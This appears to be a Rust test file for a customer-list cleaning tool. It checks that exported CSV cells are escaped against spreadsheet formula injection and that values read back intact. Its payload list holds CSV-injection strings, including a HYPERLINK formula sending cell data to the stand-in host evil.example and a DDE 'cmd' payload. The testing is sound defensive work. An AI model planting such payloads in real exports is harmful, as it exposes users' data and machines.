//! No CSV cell rollcall writes starts a formula (issue #10 item 5): formula payloads in
//! names, companies, remarks, unmapped columns and sheet names, and the ones cleaning
//! itself could make (full-width `＝` tidied, leading space or tab trimmed), come out
//! with a leading `'`; plain numbers and E.164 phones pass; reading `customers.csv` back
//! takes the `'` off again.

mod common;

use std::path::Path;

use common::{read_sheet, Workdir};
use proptest::prelude::*;

/// The payloads of the issue, and some more.
const PAYLOADS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-1+1",
    "＝1+1",
    "＋1+1",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "　=1+1",
    "'=1+1",
];

/// Characters a spreadsheet may drop from the front of a cell.
fn skipped(c: char) -> bool {
    c.is_whitespace() || matches!(c, '\u{200B}'..='\u{200D}' | '\u{2060}' | '\u{FEFF}')
}

/// A plain number (the README's rule, written again here): sign, digits, one point,
/// exponent, nothing else.
fn plain_number(cell: &str) -> bool {
    let re = regex::Regex::new(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$").unwrap();
    re.is_match(cell)
}

/// True when a spreadsheet would start a formula at this cell.
fn starts_formula(cell: &str) -> bool {
    cell.starts_with(['\t', '\r'])
        || cell
            .trim_start_matches(skipped)
            .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

/// Every cell of every CSV in `dir` that would start a formula, as (file, cell).
fn live_cells(dir: &Path) -> Vec<(String, String)> {
    let mut live = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let name = entry.file_name().to_string_lossy().to_string();
        if !name.ends_with(".csv") {
            continue;
        }
        let bytes = std::fs::read(entry.path()).unwrap();
        let text = String::from_utf8(bytes).unwrap();
        let text = text.strip_prefix('\u{FEFF}').unwrap_or(&text);
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                if starts_formula(cell) && !plain_number(cell) {
                    live.push((name.clone(), cell.to_string()));
                }
            }
        }
    }
    live
}

/// Every cell of every CSV in `dir`.
fn all_cells(dir: &Path) -> Vec<String> {
    let mut cells = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        if entry.path().extension().is_some_and(|e| e == "csv") {
            let text = std::fs::read_to_string(entry.path()).unwrap();
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_reader(text.as_bytes());
            for record in reader.records() {
                cells.extend(record.unwrap().iter().map(str::to_string));
            }
        }
    }
    cells
}

/// A list whose name, company, remark and an unmapped column (its header too) hold the
/// payloads, with a phone column of plain and spaced numbers.
fn payload_csv() -> String {
    let mut csv = String::from("姓名,手机,单位,备注,\"=HYPERLINK(\"\"x\"\")\"\n");
    for (i, p) in PAYLOADS.iter().enumerate() {
        let q = p.replace('"', "\"\"");
        csv.push_str(&format!("\"{q}\",1380013{i:04},\"{q}\",\"{q}\",\"{q}\"\n"));
        csv.push_str(&format!("张{i},\"{q}\",公司{i},备注,x\n"));
    }
    csv.push_str("李四,+86 138 0013 8999,+1+1,-12.5,+8613800138999\n");
    csv
}

/// A workbook whose one sheet is named `=HYPERLINK("x")`.
fn payload_xlsx(path: &Path) {
    let mut book = rust_xlsxwriter::Workbook::new();
    let ws = book.add_worksheet();
    ws.set_name("=HYPERLINK(\"x\")").unwrap();
    for (c, h) in ["姓名", "手机", "单位"].iter().enumerate() {
        ws.write_string(0, c as u16, *h).unwrap();
    }
    ws.write_string(1, 0, "王五").unwrap();
    ws.write_string(1, 1, "13900139000").unwrap();
    ws.write_string(1, 2, "@SUM(1)").unwrap();
    book.save(path).unwrap();
}

#[test]
fn no_csv_cell_of_any_output_starts_a_formula() {
    let w = Workdir::new();
    let list = w.write("payloads.csv", payload_csv());
    let book = w.path("sheet.xlsx");
    payload_xlsx(&book);
    w.clean(&[list.to_str().unwrap(), book.to_str().unwrap()], &["--csv"]);
    let out = w.path("out");
    let live = live_cells(&out);
    assert!(live.is_empty(), "cells that start a formula: {live:#?}");
    let cells = all_cells(&out);
    for expected in [
        "'=cmd|' /C calc'!A0",
        "'@SUM(1)",
        "'=HYPERLINK(\"x\")",
        "'+1+1",
        "''=1+1",
        "+8613800138999",
        "-12.5",
    ] {
        assert!(cells.iter().any(|c| c == expected), "{expected:?} is not in any CSV");
    }
    let lineage = std::fs::read_to_string(out.join("lineage.csv")).unwrap();
    assert!(lineage.contains("'=HYPERLINK(\"\"x\"\")"), "the sheet name, quoted");
}

#[test]
fn master_xlsx_keeps_payloads_as_text() {
    let w = Workdir::new();
    let list = w.write("payloads.csv", payload_csv());
    w.clean(&[list.to_str().unwrap()], &[]);
    let sheet = w.sheet("Customers");
    let company = sheet.column("company");
    assert!(company.iter().any(|c| c == "=cmd|' /C calc'!A0"), "{company:?}");
    // Strings are written as strings: no cell of the workbook is a formula.
    let file = std::fs::File::open(w.path("out/master.xlsx")).unwrap();
    let mut zip = zip::ZipArchive::new(file).unwrap();
    for i in 0..zip.len() {
        let mut part = zip.by_index(i).unwrap();
        if part.name().starts_with("xl/worksheets/") {
            let mut xml = String::new();
            std::io::Read::read_to_string(&mut part, &mut xml).unwrap();
            assert!(!xml.contains("<f>"), "{} holds a formula", part.name());
        }
    }
}

#[test]
fn customers_csv_reads_back_without_the_quotes() {
    let w = Workdir::new();
    let list = w.write("payloads.csv", payload_csv());
    w.clean(&[list.to_str().unwrap()], &["--csv"]);
    let calls = w.path("calls.xlsx");
    let o = w.run(&[
        "calls",
        w.path("out/customers.csv").to_str().unwrap(),
        "-o",
        calls.to_str().unwrap(),
        "--only",
        "all",
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let from_csv = read_sheet(&calls, "Calls");
    let mut from_csv: Vec<String> = from_csv.column("company");
    let master = w.sheet("Customers");
    let dialable: Vec<bool> = master.column("phone_display").iter().map(|p| !p.is_empty()).collect();
    let mut from_master: Vec<String> = master
        .column("company")
        .into_iter()
        .zip(dialable)
        .filter(|(_, d)| *d)
        .map(|(c, _)| c)
        .collect();
    from_csv.sort();
    from_master.sort();
    assert_eq!(from_csv, from_master);
    assert!(
        from_csv.iter().any(|c| c == "'=1+1"),
        "a leading quote of the user's is kept"
    );
}

/// One generated cell: a payload, a number, a phone or ordinary text.
fn cell() -> impl Strategy<Value = String> {
    prop_oneof![
        prop::sample::select(PAYLOADS).prop_map(str::to_string),
        "[=+@\\-＝＋－＠ \t]{1,2}[A-Za-z0-9(),+\\-=!|']{0,8}",
        "[+\\-]?[0-9]{1,6}(\\.[0-9]{1,2})?",
        "\\+86 ?1[3-9][0-9] ?[0-9]{4} ?[0-9]{4}",
        "[张王李赵][一二三四五六]{1,2}",
    ]
}

fn csv_cell(s: &str) -> String {
    format!("\"{}\"", s.replace('"', "\"\""))
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 8,
        failure_persistence: None,
        rng_seed: proptest::test_runner::RngSeed::Fixed(5),
        ..ProptestConfig::default()
    })]

    #[test]
    fn generated_lists_never_give_a_live_csv_cell(
        rows in prop::collection::vec(prop::collection::vec(cell(), 5), 1..12),
        header in "[=+@\\-＝＋－＠ ]?[A-Za-z(),|!]{1,8}",
    ) {
        let w = Workdir::new();
        let mut text = format!("姓名,手机,单位,备注,{}\n", csv_cell(&header));
        for (i, r) in rows.iter().enumerate() {
            let phone = if i % 2 == 0 { format!("1380013{i:04}") } else { r[1].clone() };
            let cells = [r[0].clone(), phone, r[2].clone(), r[3].clone(), r[4].clone()];
            let line: Vec<String> = cells.iter().map(|c| csv_cell(c)).collect();
            text.push_str(&line.join(","));
            text.push('\n');
        }
        let list = w.write("list.csv", text);
        let o = w.run(&["clean", list.to_str().unwrap(), "-o", w.path("out").to_str().unwrap(), "--csv"]);
        prop_assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let live = live_cells(&w.path("out"));
        prop_assert!(live.is_empty(), "cells that start a formula: {:?}", live);
    }
}
